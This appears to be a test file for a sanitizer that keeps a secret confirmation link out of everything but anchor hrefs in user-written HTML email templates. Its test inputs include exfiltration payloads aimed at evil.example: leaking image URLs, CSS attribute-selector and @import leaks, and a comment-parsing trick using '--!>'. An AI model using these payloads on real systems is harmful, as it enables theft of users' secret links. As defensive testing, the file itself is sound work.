// A secret link put into account-written HTML only as an anchor's href, with everything that could read it
// (stylesheets naming href, imports, comments and raw text parsed differently by a browser) removed.
import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { anchorLink, newLinkPlaceholder } from '../../../src/lib/anchored-link.js'
import { compileTemplate } from '../../../src/lib/render.js'

const LINK = 'https://news.example.org/confirm/MTFA.c2VjcmV0'
const count = (text: string, part: string) => text.split(part).length - 1

/** The template rendered with a placeholder for `link`, then the link anchored: the HTML as it would be sent. */
function send(template: string, variables: Record<string, unknown> = {}): string {
  const placeholder = newLinkPlaceholder()
  const render = compileTemplate(template)
  assert.ok(!(render instanceof Error), String(render))
  const html = render({ ...variables, link: placeholder })
  return anchorLink(html, placeholder, { elsewhere: '[hidden]', fallback: `<p><a href="${placeholder}">Confirm</a></p>` }).withLink(LINK)
}

describe('newLinkPlaceholder', () => {
  it('is new each time and comes through Handlebars escaping unchanged', () => {
    const a = newLinkPlaceholder()
    assert.match(a, /^https:\/\/link\.invalid\/[0-9a-f]{32}$/)
    assert.notEqual(a, newLinkPlaceholder())
    const render = compileTemplate('{{link}}|{{{link}}}|{{#with link}}{{this}}{{/with}}')
    assert.ok(!(render instanceof Error))
    assert.equal(render({ link: a }), `${a}|${a}|${a}`)
  })
})

describe('anchorLink', () => {
  it("puts the link only into anchors whose whole href is the placeholder; anywhere else it reads [hidden]", () => {
    const html = send(
      '<!doctype html><html><head><title>{{link}}</title></head><body>' +
        '<img src="https://evil.example/?u={{link}}" srcset="{{link}} 2x"><p title="{{link}}">Go to {{link}}</p>' +
        '<a href=" {{link}} ">Yes</a><A HREF="{{{link}}}">Also</A><a href="{{link}}/x">Partial</a>' +
        '<a href="https://evil.example/?u={{link}}">Inside</a><area href="{{link}}"><a data-x="{{link}}">Other</a>' +
        '</body></html>',
    )
    assert.equal(count(html, LINK), 2, html)
    assert.equal(
      html,
      '<!doctype html><html><head><title>[hidden]</title></head><body>' +
        '<img src="https://evil.example/?u=[hidden]" srcset="[hidden] 2x"><p title="[hidden]">Go to [hidden]</p>' +
        `<a href="${LINK}">Yes</a><a href="${LINK}">Also</a><a href="[hidden]/x">Partial</a>` +
        '<a href="https://evil.example/?u=[hidden]">Inside</a><area href="[hidden]"><a data-x="[hidden]">Other</a>' +
        '</body></html>',
    )
  })

  it('lets a template that spells the link out a character at a time spell only the placeholder', () => {
    const spell = (separator: string) => Array.from({ length: 60 }, (_, i) => `{{lookup link ${i}}}`).join(separator)
    const html = send(`<a href="{{link}}">Yes</a><img src="https://evil.example/?${spell('')}"><p>${spell(' ')}</p>`)
    assert.equal(count(html, LINK), 1)
    assert.ok(html.includes('<img src="https://evil.example/?[hidden]">'), 'spelled whole, it is the placeholder again')
    assert.match(/<p>(.*)<\/p>/.exec(html)![1]!.replaceAll(' ', ''), /^https:\/\/link\.invalid\/[0-9a-f]{32}$/)
  })

  it('appends the fallback to the body when no anchor takes the link', () => {
    assert.equal(send('<html><body><p><img src="{{link}}"></p></body></html>'), `<html><body><p><img src="[hidden]"></p><p><a href="${LINK}">Confirm</a></p></body></html>`)
    assert.equal(send('Welcome'), `Welcome<p><a href="${LINK}">Confirm</a></p>`)
  })

  it('removes stylesheets that can read an href or import one that could, and keeps the others', () => {
    const readers = [
      'a[href^="https://news.example.org/confirm/M"] { background: url(https://evil.example/M) }',
      'a:has([HREF*="MT"]) { background: url(https://evil.example/MT) }',
      'a[h\\72 ef^="h"] { background: url(https://evil.example/h) }',
      'a[h\\000072\r\nef^="h"] { background: url(https://evil.example/h) }',
      'a::after { content: attr(href); font-family: leak }',
      "@import url('https://evil.example/all.css');",
      "@\\69mport 'https://evil.example/all.css';",
      'p::before { content: "<svg><title><style>" }',
    ]
    for (const css of readers) {
      const html = send(`<style>${css}</style><style><!-- p { color: red } --></style><a href="{{link}}" style="color:blue">Yes</a>`)
      assert.equal(html, `<style><!-- p { color: red } --></style><a href="${LINK}" style="color:blue">Yes</a>`, css)
    }
    assert.equal(send('<a href="{{link}}" style="background-image:image-set(attr(href))">Yes</a>'), `<a href="${LINK}">Yes</a>`)
  })

  it('removes comments, remote stylesheets, scripts, raw text and foreign content, whose parsing a browser may not share', () => {
    // A browser ends a comment at --!> (htmlparser2 only at -->): what follows would be a stylesheet swallowing the link.
    const template =
      "<!-- --!><style>@import url('https://evil.example/? --><a href=\"{{link}}\">Yes</a><style>');</style>" +
      '<!--[if mso]><p>Outlook</p><![endif]--><link rel="stylesheet" href="https://evil.example/a.css">' +
      '<noscript>&lt;style&gt;@import url(https://evil.example/?</noscript><script>x</script><xmp><b></xmp>' +
      '<iframe src="https://evil.example/"></iframe><svg><title><style>x</style></title></svg><math><mi>x</mi></math><?xml x?><![CDATA[ x ]]>'
    assert.equal(send(template), `<a href="${LINK}">Yes</a><style>');</style>`)
  })

  it('encodes every text and attribute value, so that decoded markup stays text', () => {
    assert.equal(
      send('<p title="&quot;&gt;&lt;img src=x&gt;">&lt;img src=x&gt; é&nbsp;&amp;</p><a href="{{link}}">Yes</a>'),
      `<p title="&quot;><img src=x>">&lt;img src=x&gt; é&nbsp;&amp;</p><a href="${LINK}">Yes</a>`,
    )
  })
})
